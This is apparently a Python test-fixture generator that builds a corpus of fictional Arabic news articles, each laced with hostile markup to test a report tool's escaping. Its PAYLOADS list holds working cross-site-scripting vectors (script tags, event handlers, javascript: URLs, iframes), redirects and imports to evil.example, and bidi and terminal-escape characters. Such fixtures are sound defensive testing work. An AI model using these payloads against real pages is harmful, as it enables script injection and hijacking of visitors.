#!/usr/bin/env python3
"""Generate ``hostile.jsonl``: a small constructed corpus whose titles and texts attack the report.

Everything here is CONSTRUCTED text written for the workbench's tests: the articles are assembled
from the hand-written Modern Standard Arabic sentences below (about fictional towns and events),
and the outlets are the fictional outlets of the demo registry (``corpus/demo/outlets.yaml``).

Every article carries hostile text next to ordinary Arabic: HTML that runs script
(``<script>``, ``onerror=``, ``onload=``, ``ontoggle=``, ``javascript:`` URLs, frames, forms,
``<base>``, ``<meta http-equiv=refresh>``), markdown (links, remote images, headings, bold, tables),
LaTeX (``$\\require{...}$``), HTML entities, bidi overrides (U+202E), zero-width characters and
terminal escapes (ESC, BEL). NUL is not in it: the importer refuses a record holding U+0000 (a
corrupt or binary export), so it never reaches a report.
Each script payload, if it ever ran, would set ``document.title`` to "PW"+"NED" and the attribute
``data-`` + ``pwned`` on ``<body>`` -- both spelled in two halves, so the marker only appears in
a page where the script really ran. The extra column ``section`` gives the two camps hostile group
names, so a report grouped by ``section`` also puts hostile text into parameters.

Run:  python tests/robustness/data/make_hostile.py   (standard library only; byte-identical output)
"""
from __future__ import annotations

import json
import random
from datetime import date, timedelta
from pathlib import Path

HERE = Path(__file__).resolve().parent
SEED = 8
N_PER_CAMP = 45

#: What a payload runs: visible in the DOM afterwards, never spelled whole in the source.
JS = "document.body.setAttribute('data-'+'pwned',1);document.title='PW'+'NED'"

#: Markup that runs ``JS`` (or fetches / navigates) if it reaches a page unescaped.
PAYLOADS = [
    f"<script>{JS}</script>",
    f'<img src=x onerror="{JS}">',
    f'<svg onload="{JS}"></svg>',
    f'<details open ontoggle="{JS}"><summary>x</summary></details>',
    f'<body onload="{JS}">',
    f'<iframe src="javascript:parent.{JS}"></iframe>',
    f'<iframe srcdoc="<script>parent.{JS}</script>"></iframe>',
    f'<input autofocus onfocus="{JS}">',
    f'<video><source onerror="{JS}"></video>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{JS}">',
    f'<a href="javascript:{JS}">رابط</a>',
    f"[اقرأ المزيد](javascript:{JS})",
    f"<javascript:{JS}>",
    "![صورة](http://evil.example/pixel.png)",
    '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    '<base href="http://evil.example/">',
    f'<form action="javascript:{JS}"><button>أرسل</button></form>',
    f'<object data="javascript:{JS}"></object>',
    f'<embed src="javascript:{JS}">',
    "<style>@import url(http://evil.example/x.css);</style>",
    f"--><script>{JS}</script><!--",
    f"]]><script>{JS}</script>",
    r"$\require{html}\href{javascript:alert(1)}{اضغط}$ و $$\unicode{x41}$$",
    "# عنوان مزيف\n\n**عريض** و _مائل_ و `شيفرة`\n\n| أ | ب |\n|---|---|\n| ١ | ٢ |",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &amp;",
    "نص \u202eمعكوس\u202c و\u200bفاصل\u200dخفي\ufeff و\x1b[31mأحمر\x1b[0m\x07 ونهاية",
]

#: The two camps' group names in the ``section`` column: hostile too.
SECTIONS = {
    "regime": f'<img src=y onerror="{JS}">',
    "opposition": f"[قسم](javascript:{JS})",
}
OUTLETS = {
    "regime": ["sawt-al-dawla", "al-hisn-al-watani", "nashrat-al-yasmin"],
    "opposition": ["nafidhat-al-shimal", "sijil-al-huriya", "awraq-al-rabi"],
}

# Constructed sentences about fictional towns (تل الزيتون, وادي العنب) and a fictional bridge.
SHARED = [
    "افتتحت البلدية جسرا جديدا فوق نهر الزيتون بعد أشهر من العمل.",
    "وصلت قافلة من الشاحنات إلى بلدة تل الزيتون صباح اليوم.",
    "تشهد أسواق وادي العنب ارتفاعا في أسعار الخبز والخضار.",
    "عقد المجلس المحلي اجتماعا لمناقشة توزيع المياه على الأحياء.",
    "أغلقت المدارس أبوابها بسبب العاصفة الثلجية التي ضربت المنطقة.",
    "قال سكان محليون إن الكهرباء انقطعت لساعات طويلة في الليل.",
    "بدأ المزارعون حصاد القمح في السهول المحيطة بالبلدة.",
    "نقلت سيارات الإسعاف عددا من المصابين إلى المستشفى الوطني.",
    "أعلنت المديرية عن خطة لترميم الطريق الرئيسي بين البلدتين.",
    "تجمع العشرات أمام مبنى البلدية للمطالبة بتحسين الخدمات.",
]
FRAMING = {
    "regime": [
        "وأكدت الحكومة أن مؤسسات الدولة تعمل على إعادة الأمن والاستقرار إلى المنطقة.",
        "وأشاد المحافظ بجهود الجيش الوطني في حماية المواطنين من المجموعات الإرهابية.",
        "وقالت الوزارة إن الحصار الاقتصادي الجائر هو سبب الأزمة المعيشية.",
        "وشدد المسؤولون على أن السيادة الوطنية خط أحمر لا يمكن تجاوزه.",
        "وتواصل الجهات المختصة تأمين المواد الأساسية للأسر في البلدة.",
        "ودعت القيادة المواطنين إلى الالتفاف حول مؤسسات الدولة الشرعية.",
    ],
    "opposition": [
        "وقال ناشطون إن قوات النظام قصفت الأحياء السكنية بالمدفعية الثقيلة.",
        "ووثقت منظمات حقوقية حالات اعتقال تعسفي طالت شبانا من البلدة.",
        "وأكد الأهالي أن الميليشيات فرضت إتاوات على الحواجز المحيطة.",
        "وطالب المعتقلون السابقون بالكشف عن مصير المختفين قسريا.",
        "وأشار مراسلون إلى نزوح مئات العائلات نحو المخيمات الحدودية.",
        "ودعا المحتجون إلى رحيل النظام ومحاسبة المسؤولين عن الانتهاكات.",
    ],
}
HEADLINES = {
    "regime": ["الدولة تعيد الخدمات إلى تل الزيتون", "جهود حكومية لتأمين الخبز في وادي العنب",
               "الجيش الوطني يؤمن الطريق الرئيسي", "المحافظ يتفقد الجسر الجديد"],
    "opposition": ["قصف جديد على أحياء تل الزيتون", "حملة اعتقالات في وادي العنب",
                   "نزوح العائلات من البلدة نحو المخيمات", "الأهالي يطالبون بالكشف عن المعتقلين"],
}


def articles() -> list[dict]:
    """The corpus as a list of records (deterministic: one seeded random generator, lists only)."""
    rng = random.Random(SEED)
    start = date(2024, 1, 8)
    out = []
    for camp in ("regime", "opposition"):
        for i in range(N_PER_CAMP):
            payload = PAYLOADS[(i + (7 if camp == "opposition" else 0)) % len(PAYLOADS)]
            sentences = rng.sample(SHARED, 4) + rng.sample(FRAMING[camp], 3)
            sentences.insert(rng.randrange(1, len(sentences)), payload)
            out.append({
                "outlet": OUTLETS[camp][i % 3],
                "date": (start + timedelta(days=(i * 37 + (0 if camp == "regime" else 11)) % 170)).isoformat(),
                "title": f"{payload} {rng.choice(HEADLINES[camp])}",
                "text": "\n".join(sentences),
                "url": None,
                "section": SECTIONS[camp],
            })
    out.sort(key=lambda r: (r["date"], r["outlet"], r["title"]))
    for n, rec in enumerate(out, 1):
        rec["id"] = f"hostile-{n:04d}"
    return [{"id": r.pop("id"), **r} for r in out]


def jsonl(records: list[dict]) -> str:
    """One JSON object per line, UTF-8 (non-ASCII kept, control characters JSON-escaped)."""
    return "".join(json.dumps(r, ensure_ascii=False) + "\n" for r in records)


if __name__ == "__main__":
    (HERE / "hostile.jsonl").write_text(jsonl(articles()), encoding="utf-8")
